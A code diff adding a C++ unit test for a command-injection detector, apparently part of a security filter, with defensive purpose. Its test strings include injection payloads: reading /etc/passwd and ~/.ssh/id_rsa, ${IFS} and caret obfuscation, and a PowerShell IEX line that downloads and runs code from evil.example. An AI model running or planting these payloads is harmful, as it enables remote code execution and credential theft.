@@ -559,6 +559,26 @@ TEST(CmdiTest, BatchControlStatements) {
 // Administration, container, database and debugging tools after a
 // separator; tools named by a short English word or two letters need an
 // action, an option or a path after them.
+// Shell syntax that only a shell reads: a descriptor redirection after a
+// short command, a blank spelled ${IFS}, bash's $(<file), and cmd.exe's
+// carets between a Windows command's letters. PowerShell after a pipe reads
+// its own arguments, so a call glued to its '(' is no bash syntax error.
+TEST(CmdiTest, RedirectionsIfsBlanksCaretsAndWindowsShells) {
+  for (const std::string a :
+       {"; id 2>&1", "; ls 2>/dev/null", "; cat${IFS}x", "; echo${IFS}pwned", "$(</etc/passwd)",
+        "x $(<~/.ssh/id_rsa)", "& w^h^o^a^m^i", "| n^e^t user",
+        "| powershell IEX(New-Object Net.WebClient).DownloadString('http://evil.example/x')",
+        "& cmd /c type(x)"}) {
+    Match m;
+    EXPECT_TRUE(Detects(CmdiDetector(), Case{a}, &m)) << a;
+  }
+  for (const std::string b : {"Step 1; id 2 is next", "price 2>1 item", "$(<b>bold</b>)", "l^s",
+                              "& c^a^t x", "x ^2 + y^2", "Apples | powershell(x"}) {
+    Match m;
+    EXPECT_FALSE(Detects(CmdiDetector(), Case{b}, &m)) << b << " -> " << m.rule_id;
+  }
+}
+
 TEST(CmdiTest, AdministrationAndDebuggingTools) {
   const std::vector<std::string> attacks = {
       ";gdb -batch -ex \"!id\"",
